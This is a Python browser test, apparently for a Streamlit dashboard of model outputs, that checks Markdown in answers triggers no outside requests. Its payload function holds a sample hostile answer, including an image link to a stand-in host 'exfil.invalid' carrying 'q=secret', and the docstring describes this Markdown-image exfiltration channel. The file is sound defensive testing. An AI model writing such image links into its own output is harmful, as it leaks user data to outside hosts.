"""Model output stays inert in a real browser: an answer full of Markdown images and links makes
no request leave the page on Probe, Triage or Analysis (Debian Chromium driven by Playwright).

Before, escaped diff HTML sat in a <div> rendered as Markdown: a blank line in the answer ended
the HTML block, the rest was parsed as Markdown, and ``![x](http://host/a.png)`` made the browser
fetch that URL (a tracking and exfiltration channel).
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from storage import Store
from tests.browser_support import CHROMIUM, CHROMIUM_FLAGS
from tests.test_browser import dashboard  # noqa: F401 (fixture)
from tests.triage_data import make_case, save_runs

pytestmark = pytest.mark.slow


class Trap:
    """An HTTP server that only counts the requests that reach it."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:
                pass

            def do_GET(self) -> None:
                owner.paths.append(self.path)
                self.send_response(204)
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.base = f"http://127.0.0.1:{self.server.server_port}"


def payload(base: str) -> str:
    """An answer as a hostile or confused model might write it."""
    return (
        "The answer is 4.\n\n"
        f"![pixel]({base}/image.png)\n\n"
        f"[click here]({base}/link) and <{base}/autolink>\n\n"
        f'<img src="{base}/raw-img.png">\n\n'
        "![remote](http://exfil.invalid/leak.png?q=secret)\n\n"
        f"**bold** _it_ `code` $x$ :red[red] {base}/bare"
    )


def seed(db: Path, base: str) -> None:
    text = payload(base)
    store = Store(db)
    cases = [
        make_case(
            f"c{i}",
            index=i,
            reason=f"outputs differ: {text}",
            source_output=text,
            followup_output=text.replace("4", "5"),
            followup_text=f"How many? {text}",
        )
        for i in range(2)
    ]
    save_runs(store, cases)
    # An interrupted run is shown on Probe (with its cases) without running anything.
    store.finish_run("run-a", "interrupted")
    store.close()


@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian chromium is not installed")
def test_markdown_in_model_output_makes_no_request(dashboard, tmp_path):  # noqa: F811
    from playwright.sync_api import expect, sync_playwright

    url = dashboard
    trap = Trap()
    seed(tmp_path / "browser.db", trap.base)
    outside: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS)
        page = browser.new_page(viewport={"width": 1400, "height": 1000})
        page.on(
            "request",
            lambda request: None if request.url.startswith(url) else outside.append(request.url),
        )
        page.goto(url)
        expect(page.get_by_role("heading", name="Probe")).to_be_visible(timeout=60_000)
        expect(page.get_by_text("Source and follow-up, side by side")).to_be_visible(timeout=60_000)
        _open_every_expander(page)
        probe_text = page.inner_text("body")
        for title in ("Triage", "Analysis"):
            page.get_by_role("link", name=title).first.click()
            expect(page.get_by_role("heading", name=title).first).to_be_visible(timeout=60_000)
            page.wait_for_timeout(3_000)
            _open_every_expander(page)
            assert "Traceback" not in page.inner_text("body")
        page.wait_for_timeout(2_000)
        browser.close()
    trap.server.shutdown()
    # Streamlit itself may fetch its icon font; nothing may go where the answer points.
    leaked = [u for u in outside if u.startswith(trap.base) or "exfil.invalid" in u]
    assert leaked == [], leaked
    assert trap.paths == [], trap.paths
    assert "The answer is 4." in probe_text and "exfil.invalid" in probe_text  # shown, as text


def _open_every_expander(page) -> None:
    """Click every closed expander open (their content is only rendered when open)."""
    for _ in range(3):
        closed = page.locator('[data-testid="stExpander"] details:not([open]) > summary').all()
        if not closed:
            break
        for summary in closed:
            try:
                summary.click(timeout=2_000)
            except Exception:  # an expander that re-rendered away; the others still open
                continue
        page.wait_for_timeout(1_000)
